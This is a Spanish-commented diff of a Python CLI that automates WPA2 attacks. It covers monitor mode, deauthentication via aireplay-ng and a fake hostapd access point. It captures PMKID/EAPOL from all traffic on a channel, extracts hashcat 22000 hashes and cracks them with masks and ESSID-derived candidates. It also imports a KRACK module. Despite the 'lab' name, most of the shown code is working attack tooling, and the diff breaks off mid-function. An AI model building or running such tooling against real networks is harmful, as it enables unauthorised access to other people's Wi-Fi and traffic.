@@ -4,7 +4,7 @@ WPA2 Lab CLI – AirStrike Edition
 © 2025
 """
 from __future__ import annotations
-import csv, logging, re, shutil, subprocess, sys, tempfile, time
+import csv, glob, hashlib, logging, os, random, re, shutil, subprocess, sys, tempfile, time
 from pathlib import Path
 from typing import List, Optional, Tuple
 from itertools import islice
@@ -29,6 +29,9 @@ from rich.text import Text
 from datetime import datetime, timedelta
 import re, subprocess, shlex, tempfile, signal, textwrap
 
+import candidates, cap_merge, capstore, channel_plan, cluster, crack_engine, frame_index, hash22000, krack_attack, pcapng_io, results, rules, scan_table, segments, sharding
+import ordering, profiling, session_state, simtools, telemetry, tuning, watcher, wordlists
+
 # ---------------------------------------------------------------------------------
 # 🔧 ─ Config & Logging
 # ---------------------------------------------------------------------------------
@@ -37,15 +40,35 @@ PROJECTROOT = SCRIPT_DIR.parent
 LOG_FILE    = PROJECTROOT / "logs/wpa2lab.log"
 PCAP_FILE   = PROJECTROOT / "dump.pcapng"     # se actualiza en capture
 HASH_FILE   = PROJECTROOT / "hash.22000"      # se actualiza en extract
-
-# ── Estado global que iremos rellenando ───────────────────
-STATE: dict = {
+CAP_DIR     = PROJECTROOT / "captures"
+ROTATE_MB   = 100                             # 0 = sin rotación por tamaño
+ROTATE_MIN  = 15                              # 0 = sin rotación por tiempo
+AP_PASSPHRASE = "12345678"                    # AP falso de act_ap
+LAB_CONFIGS = [PROJECTROOT / "config.yaml", SCRIPT_DIR / "last.yaml"]
+STATE_FILE  = PROJECTROOT / "state.json"      # estado compartido entre comandos
+TELEMETRY_LOG = PROJECTROOT / "logs/hashcat-status.jsonl"
+
+# ── Estado global que iremos rellenando (persistente en state.json) ──
+STATE = session_state.State(STATE_FILE, {
     "mon":   None,        # wlan0mon …
     "ap":    None,        # interfaz con hostapd
     "target": {},         # dict con bssid / channel / essid
+    "pcap":  None,        # última captura
+    "manifest": None,     # manifiesto de la última sesión rotada
+    "survey": {},         # {canal: [APs, clientes]} del último escaneo
     "hash":  None,        # ruta hash 22000
     "pw":    None         # password crackeada
-}
+})
+
+def _prune_state():
+    """Descarta interfaces que ya no existen y ficheros borrados (sin `iw dev`)."""
+    stale = {k: None for k in ("mon", "ap")
+             if STATE.get(k) and not Path("/sys/class/net", STATE[k]).exists()}
+    stale |= {k: None for k in ("pcap", "manifest", "hash")
+              if STATE.get(k) and not Path(STATE[k]).exists()}
+    if stale:
+        STATE.update(stale)
+_prune_state()
 
 # ── logging / consola ─────────────────────────────────────
 logging.basicConfig(filename=LOG_FILE, level=logging.INFO,
@@ -53,6 +76,9 @@ logging.basicConfig(filename=LOG_FILE, level=logging.INFO,
 log      = logging.getLogger("wpa2lab")
 console  = Console()
 cli      = typer.Typer(add_completion=False)
+if simtools.enabled():                        # WPA2LAB_SIM=1 o `sim: {enabled: true}`
+    simtools.activate()
+    log.info("SIM herramientas simuladas desde %s", simtools.SIM_BIN)
 
 # ---------------------------------------------------------------------------------
 # ✨ ─ Ascii logo
@@ -102,7 +128,7 @@ def status_panel() -> Panel:
     ap  = STATE["ap"]  or "-"
     tgt = STATE["target"]
     tgt_text = "-" if not tgt else f"{tgt.get('essid','')} ({tgt['bssid']} / ch {tgt['channel']})"
-    hsh = STATE["hash"] or "-"
+    hsh = Path(STATE["hash"]).name if STATE["hash"] else "-"
     pw  = STATE["pw"]   or "-"
     txt = (
         f"[bold]Monitor:[/] {mon}\n"
@@ -116,6 +142,9 @@ def status_panel() -> Panel:
 # ── acciones (misma lógica que antes, pero actualizando STATE) ──────────────
 def act_prepare():
     ensure("airmon-ng")
+    if STATE["mon"]:
+        console.print(f"[green bold]✓[/] {STATE['mon']} ya está en modo monitor")
+        return
     iface = ask_iface("Interfaz a poner en MONITOR")
     run(["airmon-ng","check","kill"], sudo=True)
     run(["airmon-ng","start", iface], sudo=True)
@@ -140,7 +169,7 @@ def act_ap():
     subprocess.run(["sudo","killall","dnsmasq"], check=False)
     hapd = tempfile.NamedTemporaryFile("w", delete=False)
     hapd.write(f"interface={iface}\nssid=WPA2_LAB_FAKE\nchannel=6\nhw_mode=g\nwpa=2\n"
-               "wpa_passphrase=12345678\nwpa_key_mgmt=WPA-PSK\nrsn_pairwise=CCMP\n"); hapd.close()
+               f"wpa_passphrase={AP_PASSPHRASE}\nwpa_key_mgmt=WPA-PSK\nrsn_pairwise=CCMP\n"); hapd.close()
     dns = tempfile.NamedTemporaryFile("w", delete=False)
     dns.write(f"interface={iface}\ndhcp-range=10.0.0.10,10.0.0.50,12h\n"); dns.close()
     run(["hostapd","-B",hapd.name], sudo=True, quiet=True)
@@ -150,12 +179,13 @@ def act_ap():
 
 # ── ESCÁNER EN TIEMPO REAL ────────────────────────────
 # ──────────────────────────────────────────────────────────────
-#  _live_scan  –  versión ligera (sin CLIENTS ni VENDOR)
+#  _live_scan  –  APs + clientes (sin VENDOR)
 # ──────────────────────────────────────────────────────────────
 def _live_scan(stdscr, mon_iface: str):
     """
     Muestra los AP detectados y permite elegir uno con ↑/↓/Enter.
-    Devuelve (bssid, essid, channel, pwr) o None.
+    [s] alterna el orden: "más clientes activos, mejor señal estable" u orden
+    de airodump. Devuelve (bssid, essid, channel, pwr) o None.
     """
     import csv, re, subprocess, tempfile, threading, time
     from pathlib import Path
@@ -187,8 +217,27 @@ def _live_scan(stdscr, mon_iface: str):
     csv_path = Path(tmp.name[:-4] + '-01.csv')
 
     # ── estado compartido ─────────────────────────────────────
-    nets: list[tuple] = []   # [(bssid, essid, ch, pwr, enc)]
+    nets: list[tuple] = []   # [(bssid, essid, ch, pwr, enc, clientes, señal)]
     selected = 0
+    table = scan_table.ScanTable()
+    by_score = True
+    lock = threading.Lock()
+
+    def refresh():
+        nonlocal nets
+        with lock:
+            aps = table.ranked() if by_score else table.in_order()
+            out = []
+            for ap in aps:
+                sm = table.signal.smoothed(ap.bssid)
+                dbm = sm if sm is not None else ap.power
+                pwr = max(0, min(100, int(2 * (dbm + 100)))) if dbm < -1 else 0   # 0-100 %
+                tr = table.signal.trend(ap.bssid)
+                arrow = "↑" if tr >= 3 else "↓" if tr <= -3 else "·"
+                cli = f"{table.stations.active(ap.bssid, table.now)}/{len(table.stations.clients(ap.bssid))}"
+                sig = f"{dbm:.0f}±{table.signal.spread(ap.bssid):.0f}{arrow}" if sm is not None else "?"
+                out.append((ap.bssid, ap.essid, ap.ch, pwr, ap.enc, cli, sig))
+        nets = out
 
     # ── lector en hilo aparte ─────────────────────────────────
     def reader():
@@ -198,52 +247,30 @@ def _live_scan(stdscr, mon_iface: str):
                 time.sleep(0.8)
                 continue
             with csv_path.open(errors='ignore') as fh:
-                rows = list(csv.reader(fh))
-
-            # separa la sección de APs (antes de “Station MAC”)
-            try:
-                idx_station = next(i for i, r in enumerate(rows)
-                                   if r and r[0].startswith('Station MAC'))
-            except StopIteration:
-                idx_station = len(rows)
-            aps_raw = rows[:idx_station]
-
-            new = []
-            for r in aps_raw:
-                if not r or not re.fullmatch(r'([0-9A-F]{2}:){5}[0-9A-F]{2}', r[0]):
-                    continue
-
-                bssid = r[0].strip().upper()
-
-                chan_raw = r[3].strip() if len(r) > 3 else ''
-                m = re.search(r'\d+', chan_raw)
-                ch = int(m.group()) if m else 0
-
-                enc = (r[5] if len(r) > 5 else 'OPEN').strip() or 'OPEN'
-
-                pwr_raw = r[8].strip() if len(r) > 8 else ''
-                try:
-                    power = int(float(pwr_raw))
-                except ValueError:
-                    power = -100
-                pwr = max(0, min(100, 2 * (power + 100)))   # 0-100 %
-
-                essid = (r[13].strip() if len(r) > 13 else '') or '<Hidden>'
-
-                new.append((bssid, essid, ch, pwr, enc))
-
-            nets = new                    # ¡sin ordenar!
+                with lock:
+                    table.update(csv.reader(fh))       # APs + sección “Station MAC”
+            refresh()
             time.sleep(1)
 
     threading.Thread(target=reader, daemon=True).start()
 
+    def done(res):
+        proc.terminate()
+        with lock:
+            survey = table.survey()
+        if survey:
+            STATE["survey"] = survey          # lo usa `capture --adaptive`
+        return res
+
     # ── tabla ────────────────────────────────────────────────
     COLS = [
-        ('ESSID', 35),
+        ('ESSID', 22),
         ('BSSID', 17),
         ('CH',     4),
         ('PWR',    4),
         ('ENCR',   8),
+        ('CLI',    7),
+        ('dBm',    8),
     ]
     BORDER_H = '─'
 
@@ -251,7 +278,8 @@ def _live_scan(stdscr, mon_iface: str):
     while True:
         stdscr.erase()
         stdscr.addstr(0, 0,
-            "Options: [Esc] Quit   [↑/k] Up   [↓/j] Down   [Enter] Select")
+            "Options: [Esc] Quit   [↑/k] Up   [↓/j] Down   [Enter] Select   "
+            f"[s] Orden: {'clientes/señal' if by_score else 'airodump'}")
 
         tbl_w = sum(w for _, w in COLS) + len(COLS) + 1
         off_x = max(0, (curses.COLS - tbl_w - 2)//2)
@@ -266,7 +294,7 @@ def _live_scan(stdscr, mon_iface: str):
             '├' + '┼'.join(BORDER_H * w for _, w in COLS) + '┤')
 
         max_rows = curses.LINES - 6
-        for idx, (b, e, ch, pwr, enc) in enumerate(nets[:max_rows]):
+        for idx, (b, e, ch, pwr, enc, cli, sig) in enumerate(nets[:max_rows]):
             y  = 4 + idx
             st = sel_style if idx == selected else curses.A_NORMAL
             en_st = st
@@ -279,7 +307,9 @@ def _live_scan(stdscr, mon_iface: str):
                 b,
                 f'{ch:^{COLS[2][1]}}',
                 f'{pwr:>3}%',
-                f'{enc:<{COLS[4][1]}}',
+                f'{enc:<{COLS[4][1]}.{COLS[4][1]}}',
+                f'{cli:^{COLS[5][1]}}',
+                f'{sig:>{COLS[6][1]}}',
             ]
             x = off_x + 1
             for i, cell in enumerate(row):
@@ -296,18 +326,18 @@ def _live_scan(stdscr, mon_iface: str):
             selected -= 1
         elif key in (curses.KEY_DOWN, ord('j')) and selected < len(nets) - 1:
             selected += 1
+        elif key == ord('s'):
+            by_score = not by_score
+            refresh()
         elif key in (10, 13, curses.KEY_ENTER):
-            proc.terminate()
-            return nets[selected][:4] if nets else None
+            return done(nets[selected][:4] if nets else None)
         elif key in (27, ord('q')):
-            proc.terminate()
-            return None
+            return done(None)
         elif key == curses.KEY_MOUSE:
             _, _mx, my, _mz, _ = curses.getmouse()
             idx = my - 4
             if 0 <= idx < len(nets):
-                proc.terminate()
-                return nets[idx][:4]
+                return done(nets[idx][:4])
 
 
 # ── REEMPLAZA act_scan() POR ESTO ─────────────────────
@@ -362,10 +392,16 @@ def act_deauth():
             console.print(f"[red]aireplay-ng terminó con error:[/] {e.returncode}")
 
 # ── Captura PMKID (filtrado con BPF por BSSID) ─────────────────────────────────
-def act_capture():
+def act_capture(rotate_mb: float = ROTATE_MB, rotate_min: float = ROTATE_MIN,
+                adaptive: bool = False, compress: Optional[str] = capstore.DEFAULT):
     """
     Captura PMKID/EAPOL de TODO lo que se oiga en el canal del target.
     Ideal cuando el driver no admite filtros en hcxdumptool 6.3.x.
+    Rota a un segmento nuevo cada `rotate_mb` MB o `rotate_min` minutos y
+    mantiene captures/dump-<ts>.manifest.json con el resumen de cada uno.
+    Con `adaptive` reparte la escucha entre canales según lo que vio el
+    escáner y lo que se va capturando (channel_plan), en vez de fijar uno.
+    Cada segmento cerrado se comprime en segundo plano con `compress`.
     """
     ensure("hcxdumptool")
     mon = STATE.get("mon")
@@ -380,59 +416,186 @@ def act_capture():
     # ── Canal del objetivo (opcional pero recomendable) ─────
     tgt = STATE.get("target", {})
     ch = str(tgt.get("channel", "")) if tgt else ""
-    if ch:
+    hopper = None
+    if adaptive:
+        survey = STATE.get("survey") or {}
+        planner = channel_plan.DwellPlanner([int(ch)] if ch else channel_plan.CHANNELS_24, survey)
+        first, _ = planner.next()
+        try:
+            tuner = channel_plan.open_tuner(mon, first)
+        except OSError as e:
+            console.print(f"[red]No puedo cambiar de canal en {mon}:[/] {e}")
+            return
+        console.print(f"[cyan]Escucha adaptativa en {mon}: canales {planner.channels}"
+                      f"{' (densidad del escáner)' if survey else ' (sin escaneo previo)'} · "
+                      f"{type(tuner).__name__}[/]")
+    elif ch:
         run(["iw","dev",mon,"set","channel", ch], sudo=True, quiet=True)
         console.print(f"[cyan]Sintonizado {mon} al canal {ch}[/]")
 
-    # ── Archivo de salida ──────────────────────────────────
-    cap_dir = PROJECTROOT / "captures"; cap_dir.mkdir(exist_ok=True)
-    pcap = cap_dir / f"dump-{time.strftime('%Y%m%d_%H%M%S')}.pcapng"
-    console.print(f"[cyan]Capturando PMKID… Ctrl-C para parar → {pcap}[/]")
-
+    # ── Sesión de segmentos ────────────────────────────────
+    CAP_DIR.mkdir(exist_ok=True)
+    session = f"dump-{time.strftime('%Y%m%d_%H%M%S')}"
+    rot = " / ".join(x for x in (f"{rotate_mb:g} MB" if rotate_mb else "",
+                                 f"{rotate_min:g} min" if rotate_min else "") if x)
+    console.print(f"[cyan]Capturando PMKID… Ctrl-C para parar → {CAP_DIR/session}-s*.pcapng"
+                  f"{f'  (rota cada {rot})' if rot else ''}[/]")
+
+    def on_segment(seg: Path, info: dict):
+        log.info("SEGMENT %s eapol=%d pmkid=%d aps=%d",
+                 seg.name, info["eapol"], info["pmkid"], len(info["bssids"]))
+        console.log(f"[dim]segmento {seg.name}: {info['eapol']} EAPOL, "
+                    f"{info['pmkid']} PMKID, {len(info['bssids'])} APs[/]")
+
+    def cmd(seg: Path) -> list[str]:
+        # en modo adaptativo hcxdumptool no salta: los saltos los da el planificador
+        full = ["sudo", "hcxdumptool", "-i", mon, "-t", "86400" if adaptive else "5", "-w", str(seg)]
+        log.info("CMD %s", " ".join(full))
+        return full
+
+    cap = segments.RotatingCapture(cmd, CAP_DIR, session, rotate_mb, rotate_min,
+                                   on_segment=on_segment, compress=compress)
+    if adaptive:
+        hopper = channel_plan.Hopper(planner, tuner, lambda: cap.current,
+                                     on_hop=lambda c, d: log.debug("HOP ch=%d dwell=%.1f", c, d))
+        hopper.start()
     try:
-        run(["hcxdumptool", "-i", mon, "-t", "5", "-w", str(pcap)], sudo=True)
-    except KeyboardInterrupt:
-        console.print("[yellow]· Captura interrumpida ·[/]")
+        segs = cap.run()
     except subprocess.CalledProcessError as e:
         console.print(f"[red]hcxdumptool terminó con código {e.returncode}[/]")
         return
+    finally:
+        if hopper:
+            hopper.stop.set()
+            hopper.join()
+            tuner.close()
+    console.print("[yellow]· Captura finalizada ·[/]")
+    if hopper:
+        mins = max(planner.elapsed, 1.0) / 60
+        share = " · ".join(f"{c}:{planner.used[c] / max(sum(planner.used.values()), 1e-9):.0%}"
+                           for c in planner.channels)
+        console.print(f"[cyan]{hopper.hops} saltos · {hopper.useful} capturas útiles "
+                      f"({hopper.useful / mins:.1f}/min) · reparto {share}[/]")
+        log.info("DWELL hops=%d useful=%d per_min=%.2f", hopper.hops, hopper.useful, hopper.useful / mins)
 
     # ── Verificación ───────────────────────────────────────
-    if not pcap.exists() or pcap.stat().st_size < 100:
+    if not segs:
         console.print("[yellow]No se capturaron paquetes útiles.[/]")
-        if pcap.exists():
-            pcap.unlink()
         return
 
-    STATE["pcap"] = str(pcap)
-    console.print(f"[green bold]✓[/] Captura guardada en {pcap}\n"
-                  f"[dim]Filtra luego con hcxpcapngtool --filterlist_ap={tgt.get('bssid','<MAC>')}[/]")
+    STATE.update(pcap=str(segs[-1]), manifest=str(cap.manifest.path))
+    tot = cap.manifest.segments
+    if compress:
+        raw, stored = sum(s.get("raw_size", s["size"]) for s in tot), sum(s["size"] for s in tot)
+        console.print(f"[dim]{compress}: {raw // 1024} → {stored // 1024} KiB en disco "
+                      f"({stored / raw if raw else 1:.0%})[/]")
+    console.print(f"[green bold]✓[/] {len(segs)} segmento(s) en {CAP_DIR}  "
+                  f"({sum(s['eapol'] for s in tot)} EAPOL, {sum(s['pmkid'] for s in tot)} PMKID)\n"
+                  f"[dim]Extrae sólo el objetivo con: extract --bssid {tgt.get('bssid','<MAC>')}[/]")
 
 # ────────────────────────── EXTRAER HASH ──────────────────────
 from rich.table import Table
 from rich.panel import Panel
 from rich.progress import Progress, SpinnerColumn, TextColumn
 
-def act_extract():
+def _target_subset(pcaps: list[str], bssids: list[str], essids: list[str],
+                   tmpdir: Path) -> list[str]:
+    """
+    Escribe en `tmpdir` un pcapng por captura con sólo el tráfico objetivo.
+    Si la captura ya tiene índice sidecar fresco (y el filtro es por BSSID)
+    se va directo por seek; si no, se filtra en streaming mirando sólo la
+    cabecera 802.11 de cada frame.
+    """
+    out = []
+    for p in pcaps:
+        dest = tmpdir / capstore.stem(p)
+        if not essids and frame_index.is_fresh(p):
+            idx = frame_index.load(p)
+            recs = [r for b in bssids for r in idx.select(bssid=b)]
+            n, total = (idx.extract(recs, dest) if recs else 0), len(idx.records)
+        else:
+            st = pcapng_io.filter_capture(p, dest, bssids, essids)
+            n, total = st["kept"], st["total"]
+        log.info("SUBSET %s %s %s → %d/%d frames", p, bssids, essids, n, total)
+        if n:
+            out.append(str(dest))
+    return out
+
+def _hcx_inputs(pcaps: list[str], tmpdir: Path) -> list[str]:
+    """
+    hcxpcapngtool lee gzip pero no xz/zst: cada una de esas se descomprime en
+    streaming a su propio temporal, con todos sus frames (el resumen de
+    hcxpcapngtool sigue siendo por fichero). Las .gz pasan tal cual.
+    """
+    out = []
+    for i, p in enumerate(pcaps):
+        if capstore.codec_of(p) in (None, "gz"):
+            out.append(p)
+            continue
+        dest = tmpdir / f"{i:03d}-{Path(capstore.stem(p)).name}"
+        with capstore.open_stream(p) as src, open(dest, "wb") as dst:
+            shutil.copyfileobj(src, dst, 1 << 20)
+        out.append(str(dest))
+    return out
+
+def _triage_file(path: Path, write: bool = True) -> dict:
+    """
+    Reduce un .22000 a su conjunto mínimo (el original queda en .all) y
+    muestra cuánto trabajo se ahorra.
+    """
+    lines = hash22000.read(path)
+    kept, rep = hash22000.triage(lines)
+    if write and rep["after"] < rep["before"]:
+        shutil.copyfile(path, f"{path}.all")
+        hash22000.write(path, kept)
+    saved = 100 * (1 - rep["work_after"] / rep["work_before"]) if rep["work_before"] else 0
+    tbl = Table(box=box.SIMPLE, title="🧹 Triaje de hashes")
+    tbl.add_column("Campo", style="bold"); tbl.add_column("Antes", justify="right")
+    tbl.add_column("Después", justify="right")
+    tbl.add_row("Líneas", str(rep["before"]), str(rep["after"]))
+    tbl.add_row("Trabajo (comprob./cand.)", str(rep["work_before"]), str(rep["work_after"]))
+    tbl.add_row("ESSID distintos (PBKDF2)", "", str(rep["essids"]))
+    tbl.add_row("PMKID / EAPOL", "", f"{rep['pmkid']} / {rep['eapol']}")
+    console.print(tbl)
+    console.print(f"[dim]Eliminado {saved:.0f}% del trabajo de verificación por candidato[/]")
+    log.info("TRIAGE %s %d→%d lines, work %d→%d", path, rep["before"], rep["after"],
+             rep["work_before"], rep["work_after"])
+    return rep
+
+def act_extract(bssids: Optional[list[str]] = None, essids: Optional[list[str]] = None):
     """
     Extrae y muestra un resumen legible del hash 22000 de un PCAP:
      - Si no hay STATE['pcap'], lista captures/ y deja elegir.
      - Luego corre hcxpcapngtool, parsea su salida y la muestra en tabla.
+     - Con `bssids`/`essids` (o un objetivo fijado) sólo se extrae ese tráfico.
     """
     ensure("hcxpcapngtool", "hcxtools")
 
     # 1) Si no tenemos pcap en el estado, listamos y permitimos elegir
-    pcap_path = STATE.get("pcap")
-    if not pcap_path:
-        cap_dir = PROJECTROOT / "captures"
-        caps = sorted(cap_dir.glob("*.pcapng"))
-        if not caps:
+    #    (las sesiones rotadas aparecen como una entrada con su manifiesto)
+    tgt = STATE.get("target") or {}
+    bssids = [b.upper() for b in bssids or ([tgt["bssid"]] if tgt.get("bssid") else [])]
+    essids = list(essids or [])
+    manifest = STATE.get("manifest")
+    pcap_paths = [STATE["pcap"]] if STATE.get("pcap") and not manifest else []
+    if not pcap_paths and not manifest:
+        sessions = segments.manifests(CAP_DIR)
+        in_session = {s["file"] for m in sessions for s in m.segments}
+        caps = [f for f in capstore.captures(CAP_DIR) if f.name not in in_session]
+        entries = [(m.data["session"], m) for m in sessions] + [(f.name, f) for f in caps]
+        if not entries:
             console.print("[red]No hay capturas en captures/. Ejecuta antes la opción 6[/]")
             return
 
-        table = Table("Índice", "Archivo", "Tamaño (KiB)", box=box.SIMPLE)
-        for i, f in enumerate(caps):
-            table.add_row(str(i), f.name, str(f.stat().st_size // 1024))
+        table = Table("Índice", "Archivo", "Tamaño (KiB)", "EAPOL/PMKID", box=box.SIMPLE)
+        for i, (name, e) in enumerate(entries):
+            if isinstance(e, segments.Manifest):
+                segs = e.segments
+                table.add_row(str(i), f"📦 {name} ({len(segs)} seg.)",
+                              str(sum(s["size"] for s in segs) // 1024),
+                              f"{sum(s['eapol'] for s in segs)}/{sum(s['pmkid'] for s in segs)}")
+            else:
+                table.add_row(str(i), name, str(e.stat().st_size // 1024), "-")
         console.print(Panel(table, title="Capturas disponibles"))
 
         choice = console.input("[bold]Selecciona índice (q para salir): [/]").strip()
@@ -441,23 +604,53 @@ def act_extract():
             return
         try:
             idx = int(choice)
-            pcap_path = str(caps[idx])
+            picked = entries[idx][1]
         except:
             console.print("[red]Índice no válido[/]"); return
+        if isinstance(picked, segments.Manifest):
+            manifest = picked
+        else:
+            pcap_paths = [str(picked)]
+
+    # 1b) Sesión rotada: sólo los segmentos donde se vio el objetivo
+    if manifest:
+        manifest = manifest if isinstance(manifest, segments.Manifest) else segments.Manifest(manifest)
+        if bssids and not essids:
+            segs = sorted({p for b in bssids for p in manifest.files(b)})
+        else:
+            segs = manifest.files()
+        if not segs and bssids:
+            console.print(f"[yellow]{', '.join(bssids)} no aparece en ningún segmento; uso todos[/]")
+            segs = manifest.files()
+        pcap_paths = [str(p) for p in segs]
+        if not pcap_paths:
+            console.print("[red]La sesión no tiene segmentos en disco[/]"); return
+        console.print(f"[dim]{len(pcap_paths)}/{len(manifest.segments)} segmentos relevantes[/]")
+    pcap_path = pcap_paths[0] if len(pcap_paths) == 1 else capstore.stem(pcap_paths[0]).rsplit("-s", 1)[0]
 
     # 2) Ejecutamos hcxpcapngtool con spinner
     console.print(Panel.fit(f"[bold]Extrayendo hash 22000 de[/bold] {Path(pcap_path).name}", style="cyan"))
-    cmd = ["hcxpcapngtool", "-o", str(PROJECTROOT/"hashes"/"tmp.22000"), pcap_path]
+    (PROJECTROOT/"hashes").mkdir(exist_ok=True)
 
-    with Progress(SpinnerColumn(), TextColumn("{task.description}"), transient=True, console=console) as prog:
+    with Progress(SpinnerColumn(), TextColumn("{task.description}"), transient=True, console=console) as prog, \
+         tempfile.TemporaryDirectory(prefix="wpa2lab-") as tmpdir:
         prog.add_task("Procesando...", start=True)
+        # Con objetivo (allow-list) sólo pasamos su tráfico
+        if bssids or essids:
+            sub = _target_subset(pcap_paths, bssids, essids, Path(tmpdir))
+            if sub:
+                pcap_paths = sub
+            else:
+                console.print(f"[yellow]Sin frames de {', '.join(bssids + essids)}; extraigo todo[/]")
+        pcap_paths = _hcx_inputs(pcap_paths, Path(tmpdir))
+        cmd = ["hcxpcapngtool", "-o", str(PROJECTROOT/"hashes"/"tmp.22000"), *pcap_paths]
         try:
             output = subprocess.check_output(cmd, text=True)
         except subprocess.CalledProcessError as e:
             console.print(f"[red]Error: hcxpcapngtool terminó con código {e.returncode}[/]")
             return
 
-    # 3) Parseo de los campos clave
+    # 3) Parseo de los campos clave (con varios segmentos se suman)
     fields = {
         "file name": "Archivo",
         "duration of the dump tool (seconds)": "Duración (s)",
@@ -473,6 +666,8 @@ def act_extract():
             if line.startswith(key):
                 # valor tras los ':' caract.
                 val = line.split(":", 1)[1].strip()
+                if val.isdigit() and stats.get(label, "").isdigit():
+                    val = str(int(stats[label]) + int(val))
                 stats[label] = val
 
     # 4) Mostrar resumen en tabla
@@ -490,89 +685,409 @@ def act_extract():
     # 5) Mover el hash extraído a hashes/ y actualizar estado
     ts = time.strftime("%Y%m%d_%H%M%S")
     dest = PROJECTROOT/"hashes"/f"hash-{ts}.22000"
-    (PROJECTROOT/"hashes").mkdir(exist_ok=True)
     shutil.move(str(PROJECTROOT/"hashes"/"tmp.22000"), str(dest))
 
+    # 6) Triaje: un registro por (AP, cliente, ESSID); el completo queda en .all
+    _triage_file(dest)
+
+    # 7) Pre-pasada: resultados previos y contraseñas del laboratorio
+    _known(dest)
+
     STATE["hash"] = dest
     console.print(f"[green bold]✓[/] Hash 22000 → {dest.name}")
 
 
 # ────────────────────────── CRACKEAR HASH ─────────────────────
-def act_crack():
+def _known(hashf) -> Optional[Path]:
+    """
+    Comprueba cada hash contra los resultados guardados y las contraseñas del
+    laboratorio. Devuelve el fichero con lo que falta por crackear (el propio
+    hash o `<hash>.pending`), o None si ya está todo resuelto.
+    """
+    store = results.Store()
+    try:
+        done, pending, st = results.prepass(
+            hash22000.read(hashf), store, results.lab_passphrases(LAB_CONFIGS, [AP_PASSPHRASE]))
+    finally:
+        store.close()
+    if done:
+        tbl = Table("SSID", "Contraseña", box=box.SIMPLE, header_style="bold",
+                    title="🔑 Ya conocidas")
+        for h, pw in done:
+            tbl.add_row(h.essid_text, f"[bold red]{pw}[/bold red]")
+        console.print(tbl)
+        STATE["pw"] = done[-1][1]
+    console.print(f"[dim]Pre-pasada: {st['resolved']}/{st['hashes']} resueltos "
+                  f"({st['store']} guardados · {st['lab']} lab) en {st['ms']:.0f} ms[/]")
+    log.info("PREPASS %s %d/%d resolved", hashf, st["resolved"], st["hashes"])
+    if not pending:
+        return None
+    if not done:
+        return Path(hashf)
+    rest = Path(f"{hashf}.pending")
+    hash22000.write(rest, pending)
+    return rest
+
+def _remember(hashf):
+    """Guarda en el almacén lo que hashcat haya crackeado de `hashf`."""
+    store = results.Store()
+    try:
+        for ssid, pw in crack_engine.show(hashf):
+            pw = results.unhex(pw).decode("utf-8", "surrogateescape")
+            store.add(results.unhex(ssid), pw, source=Path(hashf).name)
+    finally:
+        store.close()
+
+def _collect(hashf, table: Table, found_pw: set) -> int:
+    """Añade a la tabla lo nuevo del potfile; devuelve cuántos hay."""
+    for ssid, pwd in crack_engine.show(hashf):
+        if pwd not in found_pw:
+            found_pw.add(pwd)
+            table.add_row(ssid, f"[bold red]{pwd}[/bold red]")
+    return len(found_pw)
+
+def _tuning(force: bool = False) -> dict:
+    """Perfil de ajuste de esta máquina (se mide sólo la primera vez)."""
+    return tuning.profile(force, on_probe=lambda: console.print(
+        "[cyan]⏱ Midiendo esta máquina (hashcat -b -m 22000 + PBKDF2 propio)…[/]"))
+
+def _fmt_eta(secs: Optional[float]) -> str:
+    return "—" if secs is None else str(timedelta(seconds=int(secs)))
+
+def _pick_generator(choice: str, hashf, mask: Optional[str] = None):
+    """Fuente de candidatos generada: máscara ('m') y/o derivadas del ESSID ('e')."""
+    sources = []
+    if "e" in choice:
+        essids = sorted({h.essid_text for h in hash22000.read(hashf)})
+        sources.append(candidates.WordSource(candidates.essid_words(essids), "essid"))
+    if "m" in choice:
+        spec = mask or console.input("Máscara [?d?d?d?d?d?d?d?d]: ").strip() or "?d?d?d?d?d?d?d?d"
+        custom = [c for c in spec.split()[1:]]            # «?1?1?d… ?l?u» → -1 ?l?u
+        m = candidates.Mask(spec.split()[0], custom)
+        if not m.valid:
+            console.print(f"[red]La máscara genera {m.width} caracteres (WPA: 8-63)[/]")
+            return None
+        sources.append(m)
+    return candidates.Chain(sources)
+
+class _StatusLine:
+    """Velocidad real, progreso, ETA y recuperados según el estado JSON de hashcat."""
+
+    def __init__(self, tel: telemetry.Telemetry, total: Optional[int] = None):
+        self.tel = tel
+        self.total = total
+
+    def __rich__(self) -> Text:
+        t = self.tel
+        if not t.latest:
+            return Text("⏳ esperando estado de hashcat…", style="dim")
+        rec, n = t.recovered
+        eta = t.eta(self.total)
+        txt = (f"⚡ [bold]{telemetry.fmt_speed(t.speed)}[/] · {t.progress:,}"
+               + (f"/{self.total:,}" if self.total else "") + " probadas"
+               + f" · ETA {timedelta(seconds=int(eta)) if eta is not None else '—'}"
+               + f" · 🔓 {rec}/{n} · rechazadas {t.rejected:,}")
+        devs = [f"#{d['id']} {d['util']}%" + (f" {d['temp']}°C" if (d["temp"] or -1) >= 0 else "")
+                for d in t.devices() if d["util"] is not None]
+        if devs:
+            txt += f"\n[dim]{' · '.join(devs)}[/]"
+        return Text.from_markup(txt)
+
+def _block_done(sizer: tuning.BlockSizer, n: int, secs: float):
+    sizer.feed(n, secs)
+    console.print(f"[dim]{n:,} en {secs:.1f} s → {n / secs:,.0f} c/s · "
+                  f"siguiente bloque {sizer.next():,}[/]")
+
+def _crack_generated(hashf, src, auto: bool, sizer: Optional[tuning.BlockSizer], workers: int,
+                     table: Table, found_pw: set, tel: telemetry.Telemetry,
+                     extra: Optional[list[str]] = None, batch: int = candidates.BATCH):
+    """Crack alimentando hashcat por stdin desde un generador (sin tocar disco)."""
+    if auto:
+        progress = Progress(
+            SpinnerColumn(),
+            BarColumn(bar_width=None),
+            TaskProgressColumn(),
+            TimeRemainingColumn(),
+            TextColumn("{task.fields[rate]}"),
+            console=console,
+            transient=True)
+        task = progress.add_task("Crackeando", total=src.keyspace, rate="")
+        with Live(Group(progress, _StatusLine(tel, src.keyspace), table),
+                  console=console, refresh_per_second=2):
+            st = crack_engine.stream(hashf, src, workers=workers, resume=True, tel=tel,
+                                     extra=extra, batch=batch,
+                                     on_batch=lambda n: progress.update(task, advance=n))
+            _collect(hashf, table, found_pw)
+        if st.get("interrupted"):
+            console.print("[yellow]· Interrumpido · se reanudará desde aquí[/]")
+    else:
+        st = {"candidates": 0, "gen_s": 0.0, "elapsed": 0.0}
+        block, start = 1, 0
+        while start < src.keyspace:
+            stop = min(src.keyspace, start + sizer.next())
+            console.print(Panel(f"Bloque {block} → probando {stop - start:,} candidatos",
+                                box=box.ROUNDED))
+            tel.reset()
+            with Live(_StatusLine(tel, stop - start), console=console, transient=True,
+                      refresh_per_second=2):
